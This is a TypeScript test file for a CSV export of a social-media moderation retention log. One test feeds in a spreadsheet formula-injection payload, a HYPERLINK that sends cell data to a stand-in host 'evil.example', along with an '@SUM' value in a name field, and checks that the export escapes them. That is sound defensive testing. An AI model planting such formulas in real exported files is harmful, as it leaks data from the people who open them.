import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { GENESIS_HASH } from '../../../lib/records/chain-hash';
import { RETENTION_CSV_HEADERS, retentionLogToCsv } from '../../../lib/records/csv-export';
import { OFFICER_REYES } from './retention-fixtures';
import { storedEvent, storedRecord } from './stored-fixtures';

/** Reads the CSV back as a spreadsheet would: header row → objects. */
function readBack(csv: string): Array<Record<string, string>> {
  return Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), {
    header: true,
    skipEmptyLines: true,
  }).data;
}

describe('retentionLogToCsv', () => {
  it('starts with a byte-order mark and readable headers, with CRLF line ends', () => {
    const csv = retentionLogToCsv([storedRecord(1)], []);
    expect(csv.startsWith('\uFEFFRecord ID,Hidden at,Platform,Post URL,Comment permalink,')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(3);
    expect(RETENTION_CSV_HEADERS).toEqual(
      expect.arrayContaining(['Poster handle', 'Terms clause', 'Clause text', 'Hidden on platform', 'Hash']),
    );
  });

  it('writes one row per record with what the record holds', () => {
    const [row] = readBack(retentionLogToCsv([storedRecord(1)], []));
    expect(row).toMatchObject({
      'Record ID': 'record-1',
      'Hidden at': '2026-11-20T17:02:00.000Z',
      Platform: 'facebook',
      'Poster name': 'Jordan Blake',
      'Poster handle': 'jordan.blake.77',
      'Poster user ID': '100000000000077',
      'Comment text': 'F*#K these pigs',
      'Posted at (as shown)': '3h',
      Moderator: OFFICER_REYES.name,
      'Moderator ID': '4471',
      Level: '7',
      Grade: 'Offensive',
      'Grade source': 'engine',
      'Engine level': '7',
      'Engine confidence': '0.93',
      'Terms clause': 'a',
      'Clause text': expect.stringMatching(/^Graphic, obscene/),
      'Hidden on platform': 'Not attempted',
      'User contacted': 'No',
      Banned: 'No',
      Sequence: '1',
      'Previous hash': GENESIS_HASH,
    });
  });

  it('round-trips a comment with commas, quotes, line breaks and emoji', () => {
    const text = 'You said "protect & serve", right?\nWell, no 👮 — "never"';
    const [row] = readBack(retentionLogToCsv([storedRecord(1, { text })], []));
    expect(row?.['Comment text']).toBe(text);
  });

  it('escapes comment text and names a spreadsheet would run as a formula', () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
    const poster = { name: '@SUM(1+1)', handle: null, profileUrl: null, userId: null };
    // A formula followed by a line break slips past papaparse's own pattern; ours catches it.
    const [first, second] = readBack(
      retentionLogToCsv(
        [storedRecord(1, { text: formula, poster }), storedRecord(2, { text: '-2+3\nmore lines' })],
        [],
      ),
    );
    expect(first?.['Comment text']).toBe(`'${formula}`);
    expect(first?.['Poster name']).toBe("'@SUM(1+1)");
    expect(second?.['Comment text']).toBe("'-2+3\nmore lines");
  });

  it('shows actions and corrections from the events, keeping the original in Corrections', () => {
    const events = [
      storedEvent(2, 'record-1', { kind: 'platform-hide', status: 'failed', detail: 'menu missing' }),
      storedEvent(3, 'record-1', { kind: 'platform-hide', status: 'confirmed', detail: 'retried' }),
      storedEvent(4, 'record-1', { kind: 'user-contacted', detail: 'Messenger' }),
      storedEvent(5, 'record-1', {
        kind: 'correction',
        field: 'level',
        value: '8',
        detail: 'threat on reread',
      }),
      storedEvent(6, 'record-other', { kind: 'banned', detail: 'someone else' }),
    ];
    const [row] = readBack(retentionLogToCsv([storedRecord(1)], events));
    expect(row).toMatchObject({
      'Hidden on platform': 'Confirmed',
      'User contacted': 'Yes',
      'Supervisor notified': 'No',
      Banned: 'No',
      Level: '8',
      Grade: 'Threatening',
      Corrections: expect.stringContaining('level 7 Offensive → 8 Threatening (Specialist Lee Okafor'),
    });
  });

  it('orders rows by sequence', () => {
    const rows = readBack(retentionLogToCsv([storedRecord(3), storedRecord(1), storedRecord(2)], []));
    expect(rows.map((row) => row.Sequence)).toEqual(['1', '2', '3']);
  });

  it('writes only the header row for an empty log', () => {
    expect(readBack(retentionLogToCsv([], []))).toEqual([]);
  });
});
